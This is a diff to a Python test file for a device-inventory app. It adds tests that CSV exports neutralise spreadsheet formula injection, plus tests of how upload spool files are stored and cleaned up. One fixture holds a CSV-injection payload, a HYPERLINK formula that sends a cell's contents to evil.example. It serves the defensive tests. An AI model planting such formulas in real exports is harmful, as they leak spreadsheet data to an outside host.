@@ -2,6 +2,10 @@
 
 import csv
 import io
+import os
+import tempfile
+import time
+from pathlib import Path
 
 from sqlalchemy import func, select
 
@@ -126,7 +130,7 @@ def test_export_then_import_round_trips(app, tmp_path):
     assert runner.invoke(args=["devices", "import", str(path)]).exit_code == 0
     first = tmp_path / "first.csv"
     assert runner.invoke(args=["devices", "export", str(first)]).exit_code == 0
-    rows = list(csv.reader(first.read_text(encoding="utf-8").splitlines()))
+    rows = list(csv.reader(first.read_text(encoding="utf-8-sig").splitlines()))
     assert rows[0] == list(bulk.COLUMNS)
     assert rows[1][0] == "UIT-00007" and rows[2][0] == "UIT-00008"
     assert rows[1][13] == "kras, klein"
@@ -157,6 +161,110 @@ def test_export_page_streams_the_same_columns(client, login_as):
     db.session.commit()
     response = client.get("/devices/export.csv")
     assert response.status_code == 200
-    rows = list(csv.reader(response.get_data(as_text=True).splitlines()))
+    rows = list(csv.reader(response.get_data(as_text=True).lstrip("\ufeff").splitlines()))
     assert rows[0] == list(bulk.COLUMNS)
     assert rows[1][:5] == ["UIT-00001", "laptop", "Acer", "Swift 3", "NXH1"]
+
+
+# Text a spreadsheet would run as a formula (OWASP CSV injection), one per field.
+FORMULAS = {
+    "make": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "model": "@SUM(1)",
+    "condition_notes": "+1",
+    "notes": "-1",
+}
+
+
+def formula_device():
+    make_device(serial="=1+1", **FORMULAS)
+    db.session.commit()
+
+
+def assert_neutralised(rows: list[list[str]]) -> None:
+    header, row = rows[0], rows[1]
+    for field, value in FORMULAS.items():
+        assert row[header.index(field)] == "'" + value, field
+    assert row[header.index("serial")] == "'=1+1"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
+
+
+def test_export_page_neutralises_formulas(client, login_as):
+    login_as("volunteer")
+    formula_device()
+    response = client.get("/devices/export.csv")
+    assert response.status_code == 200
+    assert response.get_data().startswith(b"\xef\xbb\xbf")  # the same writer as the reports
+    assert_neutralised(list(csv.reader(io.StringIO(response.get_data(as_text=True)[1:]))))
+
+
+def test_export_command_neutralises_formulas_and_import_reads_them_back(app, tmp_path):
+    formula_device()
+    runner = app.test_cli_runner()
+    out = tmp_path / "devices.csv"
+    assert runner.invoke(args=["devices", "export", str(out)]).exit_code == 0
+    assert_neutralised(list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline=""))))
+    stdout = runner.invoke(args=["devices", "export"])
+    assert_neutralised(list(csv.reader(io.StringIO(stdout.output.lstrip("\ufeff")))))
+
+    # The apostrophe is the export's, not the data's: a round trip gives the values back.
+    from tests.conftest import empty_all_tables
+
+    empty_all_tables()
+    assert runner.invoke(args=["devices", "import", str(out)]).exit_code == 0
+    device = db.session.scalars(select(Device)).one()
+    assert {field: getattr(device, field) for field in FORMULAS} == FORMULAS
+    assert device.serial == "=1+1"
+
+
+# --- the spool folder of uploads -------------------------------------------------------
+
+
+def upload(client, text: str):
+    return client.post(
+        "/devices/import",
+        data={"file": (io.BytesIO(text.encode()), "apparaten.csv")},
+        content_type="multipart/form-data",
+    )
+
+
+def test_uploads_spool_in_the_apps_own_folder_and_leave_nothing(
+    app, client, login_as, tmp_path, monkeypatch
+):
+    system_tmp = tmp_path / "tmp"
+    system_tmp.mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(system_tmp))
+    opened = []
+    real_opener = bulk.opener
+
+    def watching_opener(path):  # the real opener; it only notes which file it reads
+        opened.append(Path(path))
+        assert Path(path).is_file()
+        return real_opener(path)
+
+    monkeypatch.setattr(bulk, "opener", watching_opener)
+    login_as("volunteer")
+    assert upload(client, HEADER + "laptop,,X,1,,,,,,\n").status_code == 422
+    assert upload(client, HEADER + "laptop,Dell,E7450,Z9,,,,,,\n").status_code == 302
+
+    folder = bulk.spool_dir()
+    assert folder == Path(app.instance_path) / "import-spool"
+    assert [path.parent for path in opened] == [folder, folder]
+    assert folder.stat().st_mode & 0o777 == 0o700  # uploads hold donors' names
+    assert list(folder.iterdir()) == [] and list(system_tmp.iterdir()) == []
+
+
+def test_spool_files_of_interrupted_imports_are_removed_at_start(app_factory, tmp_path):
+    folder = tmp_path / "spool"
+    folder.mkdir()
+    dead = folder / "999999999-k3j4.csv"  # its worker is gone (killed by a timeout)
+    live = folder / f"{os.getpid()}-a1b2.csv"  # a worker still importing
+    stale = folder / f"{os.getpid()}-old1.csv"  # too old for any import: a pid reused
+    other = folder / "notes.txt"
+    for path in (dead, live, stale, other):
+        path.write_text("serial\n")
+    two_days_ago = time.time() - 2 * 86400
+    os.utime(stale, (two_days_ago, two_days_ago))
+
+    app_factory(IMPORT_SPOOL_DIR=str(folder))
+
+    assert sorted(p.name for p in folder.iterdir()) == sorted([live.name, other.name])
